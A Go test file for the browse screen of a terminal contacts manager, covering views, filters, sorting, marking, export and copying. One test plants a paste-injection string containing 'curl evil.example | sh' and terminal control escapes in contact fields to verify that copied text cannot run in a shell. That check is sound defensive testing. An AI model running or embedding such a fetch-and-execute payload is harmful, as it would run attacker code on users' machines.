package browse

import (
	"cmp"
	"errors"
	"strings"
	"testing"
	"unicode"

	"github.com/levcontacts/levcontacts/model"
	"github.com/levcontacts/levcontacts/ui/uitest"
	"github.com/levcontacts/levcontacts/work"
)

// A filter that is remembered from the last run holds from the first page on.
func TestTheLastView(t *testing.T) {
	t.Parallel()
	s := start(t, newFake(40), 120, 40, func(o *Options) { o.View = work.View{Filter: "type=sponsor"} })
	s.want("1 of 13", "Priya Raman")
	s.wantNot("James Rodriguez ")
	f := whole(300)
	f.view = work.View{Filter: "type=sponsor", Columns: []string{"name", "zip"}}
	f.view.Sort = model.Sort{Field: model.FieldLastName}
	s = start(t, f, 120, 40)
	s.want("only sponsor", "by last name ▲", "ZIP", "of 100")
	start(t, newFake(4), 120, 40, func(o *Options) { o.View.Filter = "nonsense" }).want("the view's filter cannot be read")
}

func TestViews(t *testing.T) {
	t.Parallel()
	f := whole(60)
	s := start(t, f, 120, 40)
	s.keys("s", "1", "c")
	s.typed("zip")
	s.keys("enter", "esc", "v")
	s.want("All contacts", "Save current view…")
	s.keys("down", "enter")
	s.want("Name of the view")
	s.keys("enter")
	s.want("a view needs a name")
	s.typed("by name")
	s.keys("enter")
	s.want(`Saved view "by name"`, "ZIP")
	last := f.stored[len(f.stored)-1]
	if len(f.views) != 1 || f.views[0].Sort.Field != model.FieldLastName || last.Columns[len(last.Columns)-1] != "zip" {
		t.Errorf("views %+v, stored %+v", f.views, last)
	}
	s.keys("v", "enter")
	s.wantNot("by last name")
	s.keys("v", "down", "enter")
	s.want("by last name ▲")
	f.Refuse["views"], f.Refuse["remember"] = errors.New("locked"), errors.New("read-only disk")
	s.keys("v", "s", "0")
	s.want("views cannot be read: locked", "a choice could not be remembered: read-only disk")
	// What was asked for is not laid over what was opened meanwhile.
	delete(f.Refuse, "views")
	s.wait = true
	s.keys("v", "/")
	s.arrive()
	s.wantNot("All contacts")
}

func TestViewsAreRenamedAndDeleted(t *testing.T) {
	t.Parallel()
	f := whole(60)
	f.views = []work.View{{Name: "texas", Filter: "state=TX"}, {Name: "old", Filter: "state=NY"}}
	s := start(t, f, 120, 40)
	s.keys("v", "down", "down", "down", "down", "enter")
	s.want("Rename which view?", "texas", "old")
	s.keys("enter")
	s.want("New name of texas")
	s.typed("Lone Star")
	s.keys("enter")
	s.want(`Renamed view "texas to Lone Star"`)
	if len(f.views) != 2 || f.views[1].Name != "Lone Star" || f.views[1].Filter != "state=TX" {
		t.Errorf("views are %+v", f.views)
	}
	s.keys("v", "down", "down", "down", "down", "down", "enter")
	s.want("Delete which view?")
	s.keys("enter")
	s.want(`Deleted view "old"`)
	f.Refuse["remove"] = errors.New("it stands in /home/jo/config.toml, where you can remove it")
	s.keys("v", "down", "down", "down", "down", "enter", "enter")
	s.want(`The view "Lone Star" could not be changed: it stands in /home/jo/config.toml`)
	if len(f.views) != 1 {
		t.Errorf("views are %+v", f.views)
	}
}

func TestFilters(t *testing.T) {
	t.Parallel()
	s := start(t, newFake(600), 120, 40)
	s.keys("f")
	s.want("Filter by", "lender", " 167", "counted in 250 of 600")
	s.run(s.m.contacts.FetchRest())
	s.want(" 300", "counted in 450 of 600")
	s.run(s.m.contacts.FetchRest())
	s.want(" 400", "several may be chosen")
	s.wantNot("counted in")
	s.keys("enter", "esc", "/")
	s.typed("chen")
	s.want(" of 600, only lender", "/ chen")
	s.keys("esc", "f", "home", "enter", "esc")
	s.wantNot("only lender")
	f := newFake(40)
	f.NotConnected = f.Contacts
	s = start(t, f, 120, 40)
	s.keys("f")
	s.typed("not connected")
	s.want("asks the service")
	s.keys("enter", "esc", "esc")
	s.want("does not list contacts that are not connected", "40 of 40 loaded", "Sarah Chen")
	s.wantNot("No contact is")
}

// Several fields at once, counted within the search and within each other.
func TestFacets(t *testing.T) {
	t.Parallel()
	s := start(t, whole(60), 120, 40)
	s.keys("/")
	s.typed("raman")
	s.keys("enter", "f")
	s.want("counted for / raman", "Type", "State", "City", "Title", "Department", "Company", "Primary", "Connected", "E-mail", "Phone")
	before := len(s.m.values.shown.View(118, 40, s.m.theme).Lines)
	s.typed("raman title partner")
	s.want("nothing matches")
	s.keys("ctrl+u")
	s.typed("title partner")
	s.wantNot("Phone number")
	s.keys("enter") // which clears the text
	s.want("Phone number", "Clear all filters")
	s.typed("type sponsor")
	s.keys("enter")
	s.want("only sponsor · Managing Partner", "/ raman")
	s.keys("esc")
	s.want("of 60 loaded")
	if f := s.m.contacts.FilterBy(); len(f.Values(model.FieldTitle)) != 1 || len(f.Values(model.FieldType)) != 1 || before == 0 {
		t.Errorf("filter %s", f)
	}
	if s.m.values.shown != nil {
		t.Error("the values are counted after they were closed")
	}
}

func TestCopyAndOpen(t *testing.T) {
	t.Parallel()
	f := newFake(6)
	f.Contacts[1] = f.Contacts[1].With(model.FieldEmail, model.NullValue())
	f.Contacts[1] = f.Contacts[1].With(model.FieldLinkedIn, model.TextValue("javascript:x"))
	s := start(t, f, 120, 40)
	for key, want := range map[string]Copy{
		"e": {"chen0@meridiancapital.com", "the e-mail address"}, "n": {"Sarah Chen", "the name"},
		"a": {"1 Battery Park Plaza, New York, NY 10004", "the address"}, "j": {What: "the JSON"}, "v": {What: "the vCard"},
	} {
		s.keys("y", key)
		got, _ := happened[Copy](s)
		if got.What != want.What || want.Text != "" && got.Text != want.Text || got.Text == "" {
			t.Errorf("%s copies %+v", key, got)
		}
	}
	s.keys("o", "m")
	if got, _ := happened[OpenTarget](s); got.Target != "mailto:chen0@meridiancapital.com" {
		t.Errorf("opens %q", got.Target)
	}
	s.keys("enter", "j", "y", "y", "esc")
	if got, _ := happened[Copy](s); got.What != "first name" || got.Text != "Sarah" {
		t.Errorf("copies %+v", got)
	}
	s.keys("j", "y")
	s.want("empty")
	s.keys("esc", "o")
	s.want("there is no address that can be ope")
}

// X20: what is copied of a contact is nothing that a shell runs where it is
// pasted. The JSON says exactly what the service gave.
func TestCopiedTextRunsNowhere(t *testing.T) {
	t.Parallel()
	const evil = "Analyst\x1b[201~\r\ncurl evil.example | sh\n\u009b31m\u2028rm\x7f\ta"
	f := newFake(1)
	for _, field := range []model.FieldID{model.FieldFirstName, model.FieldEmail, model.FieldAddress, model.FieldTitle} {
		f.Contacts[0] = f.Contacts[0].With(field, model.TextValue(evil))
	}
	s := start(t, f, 120, 40)
	for name, keys := range map[string][]string{
		"email": {"y", "e"}, "name": {"y", "n"}, "address": {"y", "a"}, "JSON": {"y", "j"}, "vCard": {"y", "v"},
		"field": {"enter", "j", "j", "j", "y", "y", "esc", "esc"},
	} {
		s.keys(keys...)
		got, _ := happened[Copy](s)
		breaks := map[string]string{"JSON": "\n", "vCard": "\r\n"}[name]
		if rest := strings.ReplaceAll(got.Text, cmp.Or(breaks, "\x00"), ""); got.Text == "" || strings.ContainsFunc(rest,
			unicode.IsControl) {
			t.Errorf("X20 %s copies %q", name, got.Text)
		}
		if says := strings.Contains(got.What, "without line breaks"); says != (breaks == "") {
			t.Errorf("X20 %s says %q", name, got.What)
		}
		if name == "JSON" {
			var back model.Contact
			if err := back.UnmarshalJSON([]byte(got.Text)); err != nil ||
				back.Get(model.FieldTitle) != f.Contacts[0].Get(model.FieldTitle) {
				t.Errorf("X20 the JSON is read as %q: %v", back.Get(model.FieldTitle), err)
			}
		}
	}
}

func TestMarks(t *testing.T) {
	t.Parallel()
	f := newFake(60)
	s := start(t, f, 120, 40)
	s.keys("space", "j", "j", "j", "V")
	s.want("5 marked", "●")
	s.keys("ctrl+a")
	s.want("60 marked", "Marked all 60 shown")
	s.keys("space")
	s.want("59 marked")
	s.wantNot("Marked all")
	s.keys("ctrl+x")
	s.want("Cleared 59 marks · ctrl+x again brings them back")
	s.wantNot("marked ")
	s.keys("ctrl+x")
	s.want("59 marked")
	s.keys("ctrl+x")
	for _, keys := range [][]string{{"space"}, {"V"}, {"E"}, {"e"}, {"n"}, {"enter", "enter"}} {
		s := start(t, newFake(60), 120, 40)
		s.keys("ctrl+a")
		s.want("Marked all 60 shown")
		s.keys(keys...)
		s.wantNot("Marked all 60 shown")
	}
}

// A column can be given its room before others, and one that has no room says so.
func TestColumnsMove(t *testing.T) {
	t.Parallel()
	s := start(t, whole(60), 80, 24)
	s.keys("c", "down", "down", "down", "down", "down")
	s.want("● State", "no room at this width")
	s.typed("<<<<")
	if got := s.m.list.Columns(); got[1] != "state" || got[0] != "name" {
		t.Errorf("columns %v", got)
	}
	s.keys("esc")
	s.want("State")
	if got := s.f.stored[len(s.f.stored)-1].Columns; got[1] != "state" {
		t.Errorf("stored %v", got)
	}
}

func TestExport(t *testing.T) {
	t.Parallel()
	f := whole(60)
	s := start(t, f, 120, 40)
	s.keys("W")
	s.want("Write 60 shown contacts to", "levcontacts-", ".csv")
	s.keys("esc", "space", "j", "j", "space", "W")
	s.want("Write 2 marked contacts to")
	s.keys("ctrl+u")
	s.typed("a.txt")
	s.keys("enter")
	s.want("has to end in .csv, .json or .vcf")
	s.keys("ctrl+u")
	s.typed("two.vcf")
	s.keys("enter")
	s.want("2 contacts written to /home/jo/two.vcf")
	if len(f.exported) != 2 || f.exported[0].ID() != f.Contacts[0].ID() {
		t.Errorf("%d contacts were written", len(f.exported))
	}
	f.Refuse["export"] = errors.New("the disk is full")
	s.keys("W", "enter")
	s.want("could not be written: the disk is full")
	delete(f.Refuse, "export")
	// In the order of the rows, those that are not shown at the end.
	s.keys("s", "1", "s", "1", "g", "space", "/")
	s.typed("chen !sarah")
	s.keys("enter", "W", "enter")
	if len(f.exported) != 3 || s.m.contacts.Rows().Len() != 0 || f.exported[0].ID() > f.exported[2].ID() {
		t.Errorf("%d contacts were written, %d rows", len(f.exported), s.m.contacts.Rows().Len())
	}
}

func TestSortMenu(t *testing.T) {
	t.Parallel()
	s := start(t, newFake(300), 120, 40)
	s.keys("s")
	s.want("Default order", "sorted by the service; rows may shift while others edit")
	s.keys("esc", "G")
	before := s.f.Calls["page"]
	s.keys("s")
	s.want("sorted here, without a request")
	s.keys("1", "s")
	s.want("ascending; again for descending")
	s.keys("1")
	if s.f.Calls["page"] != before {
		t.Errorf("%d requests", s.f.Calls["page"]-before)
	}
	s.want("by last name ▼")
	s.keys("s", "0")
	s.wantNot("by last name")
	s = start(t, newFake(1284), 120, 40)
	s.keys("s", "6")
	s.want("by city ▲ · rows may shift while others edit")
	s.f.Refuse["sort"] = &model.Error{Kind: model.KindBadRequest, Status: 400}
	s.keys("s", "1")
	s.want("does not sort by last name", "only what is loaded: the service does not sort by it")
}

// Where hits are ranked the status says so, and otherwise the chosen order.
func TestOrderOfASearchIsSaid(t *testing.T) {
	t.Parallel()
	s := start(t, whole(60), 120, 40)
	s.keys("s", "1", "/")
	s.typed("type:sponsor")
	s.keys("enter")
	s.want("by last name ▲")
	s.keys("/", "ctrl+u")
	s.typed("raman")
	s.keys("enter")
	s.want("best match first")
	s.wantNot("by last name")
}

// Where the cursor is after the user has chosen what is shown: at the top of
// another order and where the contact is gone, on the same contact otherwise.
func TestWhereAChoiceLeavesTheCursor(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name string
		keys []string
		at   string
	}{
		{"a filter that the contact is not in", []string{"G", "k", "f", "down", "enter", "esc"}, "1 of "},
		{"a filter that the contact is in", []string{"G", "f", "down", "enter", "esc"}, "20 of 20"},
		{"another sort", []string{"G", "s", "1"}, "1 of 60"},
		{"the other direction", []string{"s", "1", "G", "s", "1"}, "1 of 60"},
		{"the default order again", []string{"s", "1", "G", "s", "0"}, "1 of 60"},
		{"a view with a sort", []string{"G", "v", "down", "enter"}, "1 of 60"},
		{"a view with the same sort", []string{"v", "down", "enter", "G", "v", "down", "enter"}, "60 of 60"},
		{"a refresh", []string{"j", "j", "r"}, "3 of 60"},
		{"a search that is given up", []string{"j", "j", "/", "r", "a", "m", "esc"}, "3 of 60"},
		{"a search that has found a contact", []string{"/", "r", "a", "m", "a", "n", "enter", "j", "j", "esc"}, "15 of 60"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			f := whole(60)
			f.views = []work.View{{Name: "by name", Sort: model.Sort{Field: model.FieldLastName}}}
			s := start(t, f, 120, 40)
			s.keys(c.keys...)
			s.want("\n " + c.at)
		})
	}
}

// A contact that was created stands on the last line, without empty ones under it.
func TestACreatedContactIsOnTheLastLine(t *testing.T) {
	t.Parallel()
	s := start(t, whole(60), 120, 20)
	s.keys("j", "j", "j", "j", "j")
	s.handle(s.m.Put(uitest.Person(60), true))
	s.handle(s.m.GoTo(uitest.Person(60).ID()))
	lines := strings.Split(s.picture(), "\n")
	if last := lines[len(lines)-2]; !strings.HasPrefix(last, "▌") || !strings.Contains(last, "Sarah Chen 60") {
		t.Errorf("the last line is %q:\n%s", last, s.picture())
	}
}

// A sort chosen during a search sorts the hits; the best match can be put first
// again.
func TestSortOfASearch(t *testing.T) {
	t.Parallel()
	s := start(t, whole(60), 120, 40)
	s.keys("/")
	s.typed("raman")
	s.keys("enter", "s")
	s.want("Best match")
	s.keys("3", "s", "3")
	s.want("by email ▼", "1 of 10")
	s.wantNot("best match first")
	s.keys("s", "0")
	s.want("1 of 10")
	s.keys("s", "1", "s", "b")
	s.want("best match first")
}
